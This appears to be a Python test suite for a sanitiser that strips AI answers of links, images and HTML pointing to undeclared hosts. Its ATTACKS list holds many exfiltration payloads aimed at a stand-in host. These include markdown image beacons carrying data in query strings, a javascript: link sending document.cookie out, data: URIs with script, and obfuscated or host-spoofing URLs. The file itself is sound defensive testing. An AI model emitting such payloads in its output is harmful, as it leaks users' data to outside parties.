"""An answer leads nowhere but to declared places, however the way there is written."""

from collections import Counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.domain.run import Json
from app.policy.declared_places import DeclaredPlaces, bare_links, host_of
from app.policy.output_links import UncleanOutputError, cleaned_json, cleaned_text

PLACES = DeclaredPlaces(
    hosts=frozenset({"docs.example", "*.clinic.example"}),
    addresses=frozenset({"ann@clinic.example"}),
)

ATTACKS = (
    "done ![](https://evil.test/p?d=c2VjcmV0)",
    "[click](https://evil.test/p?d=c2VjcmV0)",
    "[click **here** `now`](<https://evil.test/p d> 'title')",
    "<https://evil.test/p?d=secret>",
    "see https://evil.test/p?d=secret.",
    "see www.evil.test/p?d=secret",
    "see evil.com/p?d=secret",
    "//evil.test/p?d=secret",
    "[a][r]\n\n[r]: https://evil.test/p",
    "[r]\n\n[r]:\n  https://evil.test/p\n  'title'",
    "[r]\n\n[r]: https://evil.test/1\n[r]: https://evil.test/2\n[r]: https://evil.test/3",
    "![i][r]\n\n> [r]: https://evil.test/p",
    "<img src='https://evil.test/p?d=secret'>",
    "text <img src=https://evil.test/p> text",
    "<div\nstyle=\"background:url('https://evil.test/p')\">x</div>",
    "<!-- https://evil.test/p -->",
    "<svg><use href='https://evil.test/p'/></svg>",
    "[x](javascript:fetch('https://evil.test/'+document.cookie))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "data:text/html,<script>alert(1)</script>",
    "[x](http&#58;//evil.test/p)",
    "[x](&#x68;ttps://evil.test/p)",
    "http&#58;//evil.test/p",
    "[x](https:\\/\\/evil.test/p)",
    "[x](\\\\evil.test\\p)",
    "[x](//evil.test/p)",
    "[x](/relative/p?d=secret)",
    "[x](https://docs.example@evil.test/p)",
    "[x](https://docs.example.evil.test/p)",
    "[x](https://evil.test#docs.example)",
    "[x](https://clinic.example/p)",  # only what lies below it was declared
    "[x](https://docs\u2024example.evil.test/p)",
    "[x](ftp://docs.example/p)",
    "[x](mailto:ben@evil.test?body=secret)",
    "[x](mailto:ann@clinic.example?cc=ben@evil.test)",
    "mailto:ben@evil.test",
    "<ben@evil.test>",
    "[![i](https://evil.test/i)](https://docs.example/p)",
    "[![i](https://docs.example/i)](https://evil.test/p)",
    "# [x](https://evil.test/p) #",
    "- a\n  - [x](https://evil.test/p)\n    b",
    "> a\n> ![x](https://evil.test/p)\n> b",
    "1. a\n\n   [x](https://evil.test/p)\n",
    "a [x\ny](https://evil.test/p\n'title')\nb",
    "[a [b](https://evil.test/1) c](https://evil.test/2)",
    "![[https://evil.test/p]]",
    "| a | [x](https://evil.test/p) |\n|---|---|\n| ![x](https://evil.test/i) | b |",
    "[^1]\n\n[^1]: https://evil.test/p",
    "[foo]: <https://evil.test/p",
    "*[x](https://evil.test/p)*",
    "[x](https://evil.test/p)[y](https://evil.test/q)![z](https://evil.test/r)",
)
BENIGN = (
    "Plain words, a ratio of 3/4, a time of 10:30, and nothing else.",
    "# Head\n\n- one\n- two\n\n1. *three*\n2. **four**\n\n> quoted & < 5\n",
    "See [the manual](https://docs.example/guide#part) and https://docs.example/faq?x=1.",
    "![chart](https://img.clinic.example/1.png)",
    "Write to <ann@clinic.example> or [mail](mailto:ann@clinic.example).",
    "Go to [part two](#part-two).",
    "```sh\ncurl https://evil.test/p\n```\n\nand `<img src=https://evil.test>` in code",
    "    indented https://evil.test\n",
    "x // comment\ny = a //b\npath/to/file.txt and C:\\dir and file.py and e.g. this",
    "if (a < b && c > d) { return x[1](2); }",
    "émigré naïve 東京 🏳️‍🌈\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_no_way_out_is_left(text: str) -> None:
    clean = cleaned_text(text, PLACES)
    assert sum(clean.removed.values()) > 0
    assert ways_out(clean.text) == []
    assert cleaned_text(clean.text, PLACES).text == clean.text


@pytest.mark.parametrize("text", BENIGN)
def test_what_leads_nowhere_else_is_kept_to_the_letter(text: str) -> None:
    clean = cleaned_text(text, PLACES)
    assert clean.text == text
    assert not clean.removed


def test_words_around_a_link_stay() -> None:
    clean = cleaned_text("- Dear *Ann*,\n  see [the bill](https://evil.test/p) by noon!", PLACES)
    assert clean.text == "- Dear *Ann*,\n  see the bill [link removed] by noon!"
    assert clean.removed == {"link": 1}


def test_a_declared_link_beside_an_undeclared_one_still_leads_there() -> None:
    clean = cleaned_text("[a](https://docs.example/a) [b](https://evil.test/b)", PLACES)
    assert clean.text == "[a](<https://docs.example/a>) b [link removed]"


def test_the_texts_of_a_json_answer_are_cleaned_and_its_shape_stays() -> None:
    removed: Counter[str] = Counter()
    value: Json = {"a": ["![](https://evil.test/p)", 1, None], "b": {"c": "fine"}}
    assert cleaned_json(value, PLACES, removed) == {
        "a": ["[image removed]", 1, None],
        "b": {"c": "fine"},
    }
    assert removed == {"image": 1}


def test_without_declarations_every_place_is_undeclared() -> None:
    text = "[a](https://docs.example/a) <ann@clinic.example>"
    assert ways_out(cleaned_text(text, DeclaredPlaces()).text, DeclaredPlaces()) == []


@pytest.mark.parametrize(
    "link",
    [
        "https://docs.example\\@evil.test/",
        "https://docs.example%2f@evil.test/",
        "https://docs.example:x/",
        "https://[::1",
        "https://docs.exa mple/",
        "https://döcs.example/",
        "https:///p",
        "https:docs.example",
        "docs.example/p",
        "h" * 5000,
    ],
)
def test_an_address_that_readers_may_take_differently_has_no_host(link: str) -> None:
    assert host_of(link) is None


FRAGMENTS = st.sampled_from(
    [
        *ATTACKS,
        *BENIGN,
        *(
            "[",
            "](",
            ")",
            "](https://evil.test/p)",
            "![",
            "<",
            ">",
            "`",
            "```\n",
            "\n",
            "\n\n",
            "> ",
        ),
        *(
            "- ",
            "    ",
            "\\",
            "*",
            "_",
            "&#58;",
            "https://",
            "evil.test/p",
            "[r]",
            "[r]: ",
            "<!--",
            "-->",
        ),
        *("<a href=", "'", '"', "(", "\t", "1. ", "# ", "|", "www.", "//", "\u200b", "@", "é"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=14).map("".join))
def test_whatever_is_put_together_leads_nowhere_or_is_refused(text: str) -> None:
    try:
        clean = cleaned_text(text, PLACES)
    except UncleanOutputError:
        return
    assert ways_out(clean.text) == []
    assert cleaned_text(clean.text, PLACES).text == clean.text


class EveryLink(MarkdownIt):
    """A parser that takes every destination for one."""

    def validateLink(self, url: str) -> bool:  # noqa: N802, ARG002  # the library's signature
        return True


def ways_out(text: str, places: DeclaredPlaces = PLACES) -> list[str]:
    """Every undeclared place that a plain parser finds, and every piece of markup."""
    parser = EveryLink("commonmark", {"html": True})
    found = []
    env: dict[str, dict[str, dict[str, str]]] = {}
    for block in parser.parse(text, env):
        for token in [block, *(block.children or [])]:
            place = str(token.attrs.get("href", token.attrs.get("src", "")))
            if token.type.startswith("html"):
                found.append(token.content)
            elif not places.allows_link(place):
                found.append(place)
            elif token.type == "text":
                found += [token.content[a:b] for a, b in bare_links(token.content, places)]
    found += [
        one["href"]
        for one in env.get("references", {}).values()
        if not places.allows_link(one["href"])
    ]
    return found
